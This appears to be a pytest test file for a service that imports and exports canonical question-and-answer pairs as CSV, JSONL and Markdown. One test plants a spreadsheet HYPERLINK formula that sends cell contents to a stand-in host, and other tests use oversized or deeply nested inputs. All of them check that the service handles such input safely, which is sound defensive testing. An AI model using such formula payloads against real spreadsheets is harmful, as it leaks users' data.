"""Importing and exporting canonical answers as files."""

import csv
import io
import json
from typing import Any

import pytest

from support.api import Api

CSV = (
    "question,answer,layer,expires_at\r\n"
    'When to feed?,"In August,\nafter the harvest.",friends,2099-01-31T12:00:00+00:00\r\n'
    "Which glue?,The brown one.,,\r\n"
    ",No question.,,\r\n"
    "Who?,Me.,secret,\r\n"
)


def send(person: Api, avee: str, content: str | bytes, name: str = "answers.csv", expect: int = 200, **fields: str) -> dict[str, Any]:
    files = {"file": (name, content if isinstance(content, bytes) else content.encode())}
    sent: dict[str, Any] = person.call("POST", f"/avees/{avee}/canonical-answers/import", expect, files=files, data=fields)
    return sent


def listed(person: Api, avee: str) -> dict[str, tuple[str, str]]:
    items = person.call("GET", f"/avees/{avee}/canonical-answers", 200)["items"]
    return {each["question_pattern"]: (each["answer_content"], each["layer"]) for each in items}


def test_csv_is_imported_once_and_wrong_rows_are_named(shared: Api) -> None:
    creator = shared.sign_up()
    avee = creator.create_avee()
    first = send(creator, avee, "\ufeff" + CSV, layer="intimate")
    assert (first["added"], first["known"], first["wrong"]) == (2, 0, 2)
    assert [row["line"] for row in first["wrong_rows"]] == [5, 6]
    assert "secret" in first["wrong_rows"][1]["problem"]
    assert listed(creator, avee) == {
        "When to feed?": ("In August,\nafter the harvest.", "friends"),
        "Which glue?": ("The brown one.", "intimate"),
    }
    again = send(creator, avee, CSV)
    assert (again["added"], again["known"]) == (0, 2)


def test_jsonl_too(shared: Api) -> None:
    creator = shared.sign_up()
    avee = creator.create_avee()
    lines = [json.dumps({"question": "Wie?", "answer": "Só."}, ensure_ascii=False), "", "[1]", "{broken", "[" * 100_000]
    imported = send(creator, avee, "\n".join(lines), "a.JSONL")
    assert (imported["added"], [row["line"] for row in imported["wrong_rows"]]) == (1, [3, 4, 5])
    assert listed(creator, avee) == {"Wie?": ("Só.", "public")}


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_what_was_exported_can_be_imported_elsewhere(shared: Api, kind: str) -> None:
    creator = shared.sign_up()
    avee, elsewhere = creator.create_avee(), creator.create_avee()
    send(creator, avee, CSV)
    exported = creator.call("GET", f"/avees/{avee}/canonical-answers/export?format={kind}")
    assert exported.headers["content-disposition"].endswith(f'-answers.{kind}"')
    assert send(creator, elsewhere, exported.content, f"a.{kind}")["added"] == 2
    assert listed(creator, elsewhere) == listed(creator, avee)


def test_retired_answers_are_not_exported(shared: Api) -> None:
    creator = shared.sign_up()
    avee = creator.create_avee()
    kept, gone = (creator.add_answer(avee, f"Which {thing}?", "That.") for thing in ("glue", "wood"))
    creator.call("DELETE", f"/avees/{avee}/canonical-answers/{gone['id']}", 204)
    exported = creator.call("GET", f"/avees/{avee}/canonical-answers/export").text.removeprefix("\ufeff")
    assert [row["question_pattern"] for row in csv.DictReader(io.StringIO(exported))] == [kept["question_pattern"]]
    assert creator.call("GET", f"/avees/{avee}/canonical-answers/export?format=md").text == "## Which glue?\n\nThat.\n"


def test_a_file_of_another_kind_is_refused(shared: Api) -> None:
    creator = shared.sign_up()
    avee = creator.create_avee()
    assert send(creator, avee, "x", "a.pdf", 422)["code"] == "unknown_format"
    assert send(creator, avee, "x", "a.md", 422)["code"] == "unknown_format"
    assert send(creator, avee, "question,answer\n" + "q,a\n" * 5_001, expect=422)["code"] == "too_many_rows"
    assert send(creator, avee, "question,answer\nq,a\n", expect=422, layer="all")["code"] == "invalid_request"
    assert send(creator, avee, 'question,answer\nq,"' + "a" * 1_100_000 + '"\n', expect=422)["code"] == "unreadable_file"
    assert send(creator, avee, b"")["added"] == 0
    assert listed(creator, avee) == {}


def test_a_request_has_five_thousand_rows_and_names_the_first_of_what_it_finds(shared: Api) -> None:
    creator = shared.sign_up()
    avee = creator.create_avee()
    most = send(creator, avee, "question,answer\n" + "q,a\n" * 5_000, preview="true")
    assert len(most["rows"]) == 5
    wrong = "question,answer\n" + "".join(f",wrong {number}\n" for number in range(101))
    found = send(creator, avee, wrong + "".join(f"When {number}?,{answer}\n" for number in range(101) for answer in "ab"), preview="true")
    assert (found["wrong"], len(found["wrong_rows"])) == (101, 100)
    assert (found["contradicting"], len(found["contradictions"])) == (101, 100)


def test_only_the_owner_imports_and_exports(shared: Api) -> None:
    creator, other = shared.sign_up(), shared.sign_up()
    avee = creator.create_avee()
    creator.add_answer(avee, "Which glue?", "The brown one.")
    assert send(other, avee, CSV, expect=404)["code"] == "avee_not_found"
    assert other.call("GET", f"/avees/{avee}/canonical-answers/export", 404)["code"] == "avee_not_found"
    send(shared, avee, CSV, expect=401)
    assert len(listed(creator, avee)) == 1


TWO = "question,answer\nWhen do you feed?,In August.\nWhich glue?,The brown one.\nWhen do you  FEED,In May.\n"


def test_a_question_with_two_answers_is_imported_when_one_is_chosen(shared: Api) -> None:
    creator = shared.sign_up()
    avee = creator.create_avee()
    first = send(creator, avee, TWO)
    assert (first["added"], first["wrong"], first["contradicting"]) == (1, 0, 1)
    assert first["contradictions"] == [
        {"question": "When do you feed?", "answers": [{"line": 2, "answer": "In August."}, {"line": 4, "answer": "In May."}]}
    ]
    assert set(listed(creator, avee)) == {"Which glue?"}
    assert send(creator, avee, TWO, chosen=["2", "4"])["contradicting"] == 1  # type: ignore[arg-type]  # a field that is repeated
    chosen = send(creator, avee, TWO, chosen="4")
    assert (chosen["added"], chosen["known"], chosen["contradicting"]) == (1, 1, 0)
    assert listed(creator, avee)["When do you  FEED"][0] == "In May."


def test_a_row_that_contradicts_a_stored_answer_replaces_it_only_when_chosen(shared: Api) -> None:
    creator = shared.sign_up()
    avee = creator.create_avee()
    creator.add_answer(avee, "Which glue?", "The brown one.")
    file = "question,answer\nWhich glue,The white one.\n"
    asked = send(creator, avee, file)
    assert (asked["added"], asked["contradictions"][0]["answers"]) == (
        0,
        [{"line": None, "answer": "The brown one."}, {"line": 2, "answer": "The white one."}],
    )
    assert send(creator, avee, file, chosen="2")["added"] == 1
    assert listed(creator, avee) == {"Which glue?": ("The white one.", "public")}


def test_a_preview_stores_nothing_and_says_what_would_happen(shared: Api) -> None:
    creator = shared.sign_up()
    avee = creator.create_avee()
    seen = send(creator, avee, CSV, preview="true")
    assert (seen["is_preview"], seen["added"], seen["wrong"], seen["encoding"]) == (True, 2, 2, "utf-8")
    assert seen["columns"] == ["question", "answer", "layer", "expires_at"]
    assert seen["rows"][1] == {"line": 4, "question": "Which glue?", "answer": "The brown one."}
    assert listed(creator, avee) == {}
    done = send(creator, avee, CSV)
    assert {name: done[name] for name in ("added", "known", "wrong")} == {name: seen[name] for name in ("added", "known", "wrong")}


def test_an_unclear_encoding_and_unknown_columns_are_asked_about(shared: Api) -> None:
    creator = shared.sign_up()
    avee = creator.create_avee()
    data = "Frage,Antwort\n胶水多久能干？,一天。\n".encode("gbk")
    unclear = send(creator, avee, data, expect=422)
    assert unclear["code"] == "unclear_encoding"
    assert "胶水多久能干" in next(each["preview"] for each in unclear["fields"]["encodings"] if each["encoding"] == "gb18030")
    unknown = send(creator, avee, data, expect=422, encoding="gb18030")
    assert (unknown["code"], unknown["fields"]["columns"]) == ("unknown_columns", ["Frage", "Antwort"])
    assert send(creator, avee, data, encoding="gb18030", question="Frage", answer="Antwort")["added"] == 1
    assert listed(creator, avee) == {"胶水多久能干？": ("一天。", "public")}
    assert send(creator, avee, data, expect=422, encoding="rot13")["code"] == "unreadable_file"


def test_a_formula_that_an_asker_typed_is_text_in_a_spreadsheet_and_comes_back(shared: Api) -> None:
    creator = shared.sign_up()
    avee, elsewhere = creator.create_avee(), creator.create_avee()
    formula = '=HYPERLINK("https://example.org/?"&A1,"Click")'
    creator.add_answer(avee, formula, "+1 234, '=2 and -3")
    creator.add_answer(avee, "'=quoted?", "@home")
    exported = creator.call("GET", f"/avees/{avee}/canonical-answers/export").content
    assert exported.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+-@" and cell]
    assert send(creator, elsewhere, exported)["added"] == 2
    assert listed(creator, elsewhere) == listed(creator, avee)
